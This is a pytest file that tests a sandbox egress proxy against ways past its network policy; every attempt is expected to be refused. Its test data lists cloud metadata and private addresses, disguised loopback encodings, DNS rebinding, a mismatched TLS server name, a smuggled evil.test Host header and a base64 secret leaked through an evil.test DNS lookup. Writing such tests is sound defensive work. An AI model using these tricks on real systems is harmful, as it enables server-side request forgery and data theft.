"""Ways past a network policy, tried by commands in real boxes; each is refused.

The world is one of the test's own: two public machines, and one of the host's own addresses behind
which there is something to be had.
"""

import asyncio
import json
import socket
import ssl
from collections.abc import AsyncIterator
from ipaddress import IPv4Network, IPv6Network
from pathlib import Path

import pytest
import pytest_asyncio

from executor_service.records.network_policy import EVERYTHING, NetworkMode, NetworkPolicy, Rule
from services.rpc.public_addresses import AddressVetting
from tests.support.boxes import Yard, open_yard
from tests.support.replacement import replaced
from tests.support.world import (
    DEADLINES,
    DIRECT,
    FRIENDLY,
    PRIVATE,
    PUBLIC,
    World,
    ask,
    connect,
    get,
    open_world,
)

pytestmark = pytest.mark.asyncio(loop_scope="module")

MIB = 1024 * 1024
OPEN = NetworkPolicy(NetworkMode.OPEN)
EVERYWHERE = [IPv4Network("0.0.0.0/0"), IPv6Network("::/0")]
REFUSED, NOT_LISTED = b"HTTP/1.1 403 ", b"is not on this sandbox's allow list"


@pytest.fixture(scope="module", params=["bubblewrap", "docker"])
def name(request: pytest.FixtureRequest) -> str:
    return request.param


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def yard(name: str, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Yard]:
    async with open_yard(name, tmp_path_factory.mktemp("boxes")) as opened:
        yield opened


@pytest_asyncio.fixture(loop_scope="module")
async def world(tmp_path: Path) -> AsyncIterator[World]:
    async with open_world(tmp_path) as opened:
        yield opened


def hello_for(name: str | None) -> bytes:
    """The first thing that a TLS client says that wants to speak to a host, or does not say."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    outgoing = ssl.MemoryBIO()
    client = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name)
    with pytest.raises(ssl.SSLWantReadError):
        client.do_handshake()
    return outgoing.read()


def _always(*_: object) -> bool:
    return True


# ---- 14: what is never reached


def own_addresses() -> list[str]:
    """This machine's own, among them the gateway of its containers."""
    found = {str(info[4][0]) for info in socket.getaddrinfo(socket.gethostname(), None)}
    return [*sorted(found - {PRIVATE}), "172.17.0.1"]


def forbidden(world: World) -> list[tuple[str, int]]:
    world.names.known["kubernetes.default.svc"] = ("10.96.0.1",)
    own = [(f"[{one}]" if ":" in one else one, world.raw_port) for one in own_addresses()]
    return [
        ("169.254.169.254", 80),
        ("metadata.test", 80),
        ("168.63.129.16", 80),
        *own,
        (PRIVATE, world.raw_port),
        ("inside.test", world.http_port),
        ("10.96.0.1", 443),
        ("kubernetes.default.svc", 443),
        ("10.0.0.1", 80),
        ("172.16.0.1", 80),
        ("192.168.0.1", 80),
        ("100.64.0.1", 80),
        ("[fe80::1]", 80),
        ("[fd00::1]", 80),
        ("[::1]", world.raw_port),
        ("[::ffff:127.0.0.1]", world.raw_port),
        ("[64:ff9b::7f00:1]", world.raw_port),
    ]


async def test_what_is_not_public_is_refused_and_counted(yard: Yard, world: World) -> None:
    places = forbidden(world)
    asked = [[say(*place)] for place in places for say in (connect, get)]
    listed = tuple(Rule.create(host.strip("[]"), (port,)) for host, port in places)
    for policy in (OPEN, NetworkPolicy(NetworkMode.ALLOW_LIST, listed)):
        async with world.connected(yard, policy) as (console, _):
            for question, answer in zip(asked, await ask(console, *asked), strict=True):
                assert answer.startswith(REFUSED), (question, answer)
                assert b"has no public address" in answer
        rules = {world.counted(rule.host, "address_refused") for rule in (EVERYTHING, *listed)}
        assert rules >= ({len(asked)} if policy is OPEN else {2})
    assert not world.seen
    assert not world.connections


async def test_addresses_in_other_words_are_no_way(yard: Yard, world: World) -> None:
    hosts = ("127.1", "2130706433", "0x7f000001", "0177.0.0.1", "localhost", "fe80::1%lo")
    async with world.connected(yard, OPEN) as (console, _):
        asked = [[say(host, world.raw_port)] for host in hosts for say in (connect, get)]
        for answer in await ask(console, *asked):
            assert answer[:10] in (b"HTTP/1.1 4", b"HTTP/1.1 5"), answer
    assert not world.connections
    assert not world.seen


async def test_there_is_no_way_past_the_proxy(yard: Yard, world: World) -> None:
    places = [("udp" if port == 53 else "tcp", host.strip("[]"), port) for host, port in (
        *forbidden(world), ("8.8.8.8", 53), ("1.1.1.1", 443), (FRIENDLY, world.http_port))
        if host.strip("[]")[0].isdigit() or ":" in host]  # fmt: skip
    places += [("dns", "evil.test", 0), ("dns", "kubernetes.default.svc", 0)]
    async with (
        world.connected(yard, OPEN) as (console, _),
        world.connected(yard, OPEN) as (other, _),
    ):
        server = (
            "import socket, time; s = socket.create_server(('127.0.0.1', 8099)); time.sleep(60)"
        )
        await other.start("/usr/bin/env", "python3", "-c", server)
        await other.python(
            "import socket, time\n"
            "while socket.socket().connect_ex(('127.0.0.1', 8099)): time.sleep(0.02)"
        )
        places.append(("tcp", "127.0.0.1", 8099))
        given = json.dumps(places)
        recorder = await console.start("/usr/bin/env", "python3", "-c", DIRECT, given)
        await recorder.exit(timeout_s=50)
        results = recorder.stdout.split()
        assert len(results) == len(places)
        assert "connected" not in results, list(zip(places, results, strict=True))
    assert not world.connections
    assert not world.names.asked


# ---- 15: ways around an allow list


async def test_an_address_instead_of_a_name(yard: Yard, world: World) -> None:
    asked = [[connect(FRIENDLY, world.https_port)], [get(FRIENDLY, world.http_port)]]
    async with world.connected(yard, world.allow("good.test", "*.good.test")) as (console, _):
        answers = await ask(console, *asked)
        assert all(NOT_LISTED in answer for answer in answers)
        assert world.counted("none", "not_listed") == 2
    async with world.connected(yard, world.allow(FRIENDLY)) as (console, _):
        assert await world.fetch(console, world.http(FRIENDLY)) == [FRIENDLY]


@pytest.mark.parametrize("named", ["evil.test", "api.good.test", None], ids=str)
async def test_a_tunnel_for_another_host_than_it_was_asked_for(
    yard: Yard, world: World, named: str | None
) -> None:
    asked = [connect("good.test", world.https_port), hello_for(named)]
    async with world.connected(yard, world.allow("good.test")) as (console, _):
        (answer,) = await ask(console, asked)
        assert answer.endswith(b"|\x15\x03\x01\x00\x02\x02\x70"), answer
        assert world.counted("good.test", "name_refused") == 1
        assert world.passed("good.test", "in") == 0


async def test_a_tunnel_that_is_no_tls(yard: Yard, world: World) -> None:
    """On ports that no rule names; these servers have others, so it is said that none is named."""
    asked = [connect("good.test", world.http_port), b"GET /own HTTP/1.1\r\nHost: evil.test\r\n\r\n"]
    async with world.connected(yard, world.allow("good.test")) as (console, _):
        with replaced(NetworkPolicy, "requires_tls", _always):
            (answer,) = await ask(console, asked)
            assert answer.endswith((b"|", b"|ConnectionResetError")), answer
            assert not world.seen
        (answer,) = await ask(console, asked)
        assert b"|HTTP/1.1 200" in answer, answer
        assert [seen.host for seen in world.seen] == ["evil.test"]


async def test_a_name_that_leads_elsewhere_the_next_time(yard: Yard, world: World) -> None:
    url = f"http://rebind.test:{world.http_port}/"
    policy = world.allow("rebind.test")
    async with world.connected(yard, policy) as (console, _):
        world.names.turns["rebind.test"] = [(FRIENDLY,), (PRIVATE,)]
        assert await world.fetch(console, url) == [FRIENDLY]
        assert world.names.asked == ["rebind.test"]
        assert await world.fetch(console, url) == ["403"]
        assert world.counted("rebind.test", "address_refused") == 1


async def test_of_several_addresses_only_the_public_ones_are_tried(
    yard: Yard, world: World
) -> None:
    gate = world.gate(vetting=AddressVetting(public=[PUBLIC, IPv4Network(f"{PRIVATE}/32")]))
    url = world.http("half.test")
    async with world.connected(yard, world.allow("half.test")) as (console, _):
        assert await world.fetch(console, url) == [FRIENDLY]
    async with world.connected(yard, world.allow("half.test"), gate) as (console, _):
        assert await world.fetch(console, url) == [PRIVATE]


async def test_a_secret_in_the_name_that_is_looked_up(yard: Yard, world: World) -> None:
    asked = [[say("c2vjcmv0.evil.test", 443)] for say in (connect, get)]
    async with world.connected(yard, world.allow("good.test")) as (console, _):
        assert all(NOT_LISTED in answer for answer in await ask(console, *asked))
        assert not world.names.asked


async def test_a_port_that_no_rule_names(yard: Yard, world: World) -> None:
    asked = [[connect("good.test", 22)], [connect("good.test", world.raw_port), b"x"]]
    async with world.connected(yard, world.allow("good.test")) as (console, _):
        assert all(NOT_LISTED in answer for answer in await ask(console, *asked))
        assert not world.connections
    rule = Rule("good.test", (22, world.raw_port))
    policy = NetworkPolicy(NetworkMode.ALLOW_LIST, (rule,))
    async with world.connected(yard, policy) as (console, _):
        refused, reached = await ask(console, *asked)
        assert refused.startswith(b"HTTP/1.1 502 ")
        assert b"hello" in reached
    assert world.connections == [FRIENDLY]


# ---- What connections may use up, whoever is at their ends


async def test_who_says_nothing_is_hung_up_on(yard: Yard, world: World) -> None:
    rule = Rule("good.test", (world.raw_port,))
    policy = NetworkPolicy(NetworkMode.ALLOW_LIST, (rule,))
    silent = (
        "import socket, sys, time\n"
        "start = time.monotonic()\n"
        "with socket.create_connection(('127.0.0.1', 3128), 20) as proxy:\n"
        "    proxy.sendall(bytes.fromhex(sys.argv[1]))\n"
        "    while proxy.recv(65536): pass\n"
        "print(time.monotonic() - start)"
    )
    async with world.connected(yard, policy) as (console, _):
        said = [b"CONN", connect("good.test", world.raw_port)]
        recorders = [
            await console.start("/usr/bin/env", "python3", "-c", silent, part.hex())
            for part in said
        ]
        for recorder, limit_s in zip(
            recorders, (DEADLINES.request_s, DEADLINES.idle_s), strict=True
        ):
            assert (await recorder.exit(timeout_s=20)).code == 0, recorder.stderr
            assert limit_s <= float(recorder.stdout) + 0.1 < limit_s + 5


async def test_a_command_that_does_not_read_holds_up_itself_only(yard: Yard, world: World) -> None:
    unread = (
        "import socket, sys, time\n"
        "proxies = [socket.create_connection(('127.0.0.1', 3128), 20) for _ in range(20)]\n"
        "for proxy in proxies: proxy.sendall(bytes.fromhex(sys.argv[1]))\n"
        "print('asked', flush=True)\n"
        "time.sleep(60)"
    )
    host = f"good.test:{world.http_port}"
    asked = f"GET http://{host}/bytes?n=50000000 HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
    async with world.connected(yard, world.allow("good.test")) as (console, _):
        recorder = await console.start("/usr/bin/env", "python3", "-c", unread, asked.hex())
        await recorder.until(lambda r: bool(r.stdout))
        download = world.https("good.test", "/bytes?n=4000000")
        assert await world.fetch(console, download) == ["4000000"]
        taken = world.passed("good.test", "in")
        await asyncio.sleep(1)
        # What the kernel of the box and the windows of the streams hold, and no more.
        assert world.passed("good.test", "in") - taken < 20 * MIB
        assert world.passed("good.test", "in") < 20 * 8 * MIB
